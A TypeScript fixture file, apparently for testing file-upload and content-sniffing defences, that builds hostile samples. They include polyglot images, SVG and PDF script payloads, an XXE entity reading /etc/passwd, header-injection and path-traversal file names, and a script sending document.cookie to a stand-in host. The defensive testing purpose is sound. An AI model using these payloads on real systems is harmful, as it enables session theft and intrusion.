import { crc32, deflateSync } from 'node:zlib';

/** A hostile, malformed or normal file. `type`: the expected type, where it matters. */
export type Sample = { what: string; name: string; bytes: Buffer; declared?: string; type?: string };

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
const text = (content: string) => Buffer.from(content);
const utf16le = (content: string) => Buffer.from(content, 'utf16le');

/** A picture that every browser displays. */
export const png = Buffer.concat([
  Buffer.from('89504e470d0a1a0a', 'hex'),
  chunk('IHDR', Buffer.from('00000001000000010802000000', 'hex')),
  chunk('IDAT', deflateSync(Buffer.from([0, 255, 0, 0]))),
  chunk('IEND', Buffer.alloc(0)),
]);
const gif = Buffer.from('47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b', 'hex');
const jpeg = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.from('ffd9', 'hex')]);

/** Polyglots, and formats disguised as others. */
export const disguises: Sample[] = [
  { what: 'GIF and JavaScript', name: 'a.gif', bytes: Buffer.concat([text('GIF89a/*'), gif.subarray(8), text('*/=1;alert(1)')]) },
  { what: 'GIF with an HTML comment', name: 'b.gif', bytes: Buffer.concat([gif, text(`<html>${SCRIPT}`)]), type: 'image/gif' },
  { what: 'PNG with an HTML tail', name: 'c.png', bytes: Buffer.concat([png, text(`<html>${SCRIPT}`)]), type: 'image/png' },
  { what: 'PNG with HTML in a chunk', name: 'd.png', bytes: withChunk(text(`<html>${SCRIPT}`)), type: 'image/png' },
  { what: 'JPEG with an HTML tail', name: 'e.jpg', bytes: Buffer.concat([jpeg, text(SCRIPT)]), type: 'image/jpeg' },
  { what: 'PDF and HTML', name: 'f.pdf', bytes: text(`%PDF-1.7\n<html>${SCRIPT}\n%%EOF`), type: 'application/pdf' },
  { what: 'HTML and PDF', name: 'g.pdf', bytes: text(`<html>${SCRIPT}\n%PDF-1.7\n%%EOF`), type: 'text/html' },
  { what: 'HTML called .png', name: 'h.png', bytes: text(`<html>${SCRIPT}`), declared: 'image/png', type: 'text/html' },
  {
    what: 'SVG called .jpg',
    name: 'i.jpg',
    bytes: text('<svg onload="alert(1)"/>'),
    declared: 'image/jpeg',
    type: 'image/svg+xml',
  },
  {
    what: 'JavaScript called .gif',
    name: 'j.gif',
    bytes: text('alert(document.domain);'),
    declared: 'image/gif',
    type: 'text/javascript',
  },
  { what: 'PNG called .html', name: 'k.html', bytes: png, declared: 'text/html', type: 'image/png' },
  { what: 'BMP header and JavaScript', name: 'l.bmp', bytes: text('BM=1;alert(document.domain)//') },
  {
    what: 'ZIP behind a GIF (GIFAR)',
    name: 'm.gif',
    bytes: Buffer.concat([gif, zip('META-INF/MANIFEST.MF')]),
    type: 'image/gif',
  },
];

/** Content that a browser would execute. */
export const actives: Sample[] = [
  { what: 'HTML', name: 'a.html', bytes: text(`<!doctype html><html>${SCRIPT}</html>`), type: 'text/html' },
  { what: 'HTML with a byte order mark', name: 'b.html', bytes: text(`\uFEFF${SCRIPT}`), type: 'text/html' },
  { what: 'HTML behind much space', name: 'c.txt', bytes: text(`${' \n'.repeat(4_000)}${SCRIPT}`), type: 'text/html' },
  { what: 'HTML behind text', name: 'd.txt', bytes: text(`${'Dear all, '.repeat(1_000)}${SCRIPT}`), type: 'text/html' },
  { what: 'HTML in UTF-16 with a mark', name: 'e.html', bytes: utf16le(`\uFEFF<html>${SCRIPT}`), type: 'text/html' },
  { what: 'HTML in UTF-16 without one', name: 'f.html', bytes: utf16le(`<html>${SCRIPT}`), type: 'text/html' },
  { what: 'HTML in UTF-16, big end first', name: 'g.html', bytes: utf16le(`\uFEFF<html>${SCRIPT}`).swap16(), type: 'text/html' },
  { what: 'HTML behind a comment', name: 'h.html', bytes: text(`<!-- ${'x'.repeat(3_000)} -->${SCRIPT}`), type: 'text/html' },
  { what: 'an image tag that runs', name: 'i.txt', bytes: text('<img src=x onerror=alert(1)>'), type: 'text/html' },
  { what: 'SVG with onload', name: 'a.svg', bytes: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
  {
    what: 'SVG behind a doctype',
    name: 'b.svg',
    bytes: text('<?xml version="1.0"?><!DOCTYPE svg><svg><script>1</script></svg>'),
  },
  { what: 'SVG in UTF-16', name: 'c.svg', bytes: utf16le('\uFEFF<svg onload="alert(1)"/>'), type: 'image/svg+xml' },
  { what: 'SVG with a prefix', name: 'd.svg', bytes: text('<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="alert(1)"/>') },
  {
    what: 'XHTML',
    name: 'a.xhtml',
    bytes: text('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'),
  },
  {
    what: 'XML with a stylesheet',
    name: 'a.xml',
    bytes: text('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><a/>'),
  },
  { what: 'XML with an entity', name: 'b.xml', bytes: text('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>') },
  {
    what: 'XSLT',
    name: 'a.xsl',
    bytes: text('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
  },
  { what: 'RSS', name: 'a.rss', bytes: text('<?xml version="1.0"?><rss version="2.0"/>'), type: 'application/xml' },
  { what: 'JavaScript', name: 'a.js', bytes: text('"use strict"; alert(1)'), type: 'text/javascript' },
  { what: 'a JavaScript module', name: 'a.mjs', bytes: text('export default function () {}'), type: 'text/javascript' },
  {
    what: 'MHTML',
    name: 'a.mht',
    bytes: text(
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${SCRIPT}`,
    ),
  },
  { what: 'Flash', name: 'a.swf', bytes: Buffer.concat([text('FWS\u0009'), Buffer.alloc(40)]) },
  { what: 'JAR', name: 'a.jar', bytes: zip('META-INF/MANIFEST.MF') },
  { what: 'HTML application', name: 'a.hta', bytes: text(`<hta:application/>${SCRIPT}`), type: 'text/html' },
  {
    what: 'PDF',
    name: 'a.pdf',
    bytes: text('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
    type: 'application/pdf',
  },
  { what: 'WebAssembly', name: 'a.wasm', bytes: Buffer.from('0061736d01000000', 'hex') },
];

export const ordinary: Sample[] = [
  { what: 'PNG', name: 'picture.png', bytes: png, type: 'image/png' },
  { what: 'GIF', name: 'picture.gif', bytes: gif, type: 'image/gif' },
  { what: 'JPEG', name: 'picture.jpg', bytes: jpeg, type: 'image/jpeg' },
  { what: 'text', name: 'note.txt', bytes: text('Dear Ada,\nsee you at 5.\n'), type: 'text/plain' },
  { what: 'CSV', name: 'list.csv', bytes: text('name,phone\nAda,+15550001\n'), type: 'text/plain' },
  { what: 'a vCard', name: 'ada.vcf', bytes: text('BEGIN:VCARD\nVERSION:4.0\nFN:Ada\nEND:VCARD\n'), type: 'text/vcard' },
  { what: 'ZIP', name: 'a.zip', bytes: zip('hello.txt'), type: 'application/zip' },
  { what: 'one byte', name: 'one', bytes: Buffer.from([7]), type: 'application/octet-stream' },
  { what: 'random bytes', name: 'noise.bin', bytes: Buffer.from(Array.from({ length: 5_000 }, (_, i) => (i * 7919) % 256)) },
];

/** Hostile file names. */
export const names: Sample[] = [
  'a\r\nSet-Cookie: stolen=1\r\n\r\n<html>.png',
  'a\nX-Injected: 1.png',
  'quote".png',
  'back\\slash.png',
  'semi;colon.png',
  "apostrophe's (1)*.png",
  'percent%0d%0aX-Injected: 1.png',
  '../../../../etc/passwd',
  '..\\..\\boot.ini',
  '/absolute/path.png',
  '..',
  '',
  'Grüße an Zoë 🎉.png',
  '日本語のファイル.png',
  'عربي.png',
  'gpj.\u202Egnp.exe',
  'nul\0byte.png',
  `${'long'.repeat(1_250)}.png`,
].map((name) => ({ what: `the name ${JSON.stringify(name.slice(0, 40))}`, name, bytes: png, type: 'image/png' }));

export const corpus: Sample[] = [...disguises, ...actives, ...ordinary, ...names];

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const around = Buffer.alloc(8);
  around.writeUInt32BE(data.length, 0);
  around.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([around.subarray(0, 4), body, around.subarray(4)]);
}

/** The PNG with a text chunk after its header. */
function withChunk(data: Buffer): Buffer {
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), chunk('tEXt', data), png.subarray(afterHeader)]);
}

/** An archive of one empty entry, not compressed. */
function zip(entry: string): Buffer {
  const name = Buffer.from(entry);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length, 16);
  return Buffer.concat([local, name, central, name, end]);
}
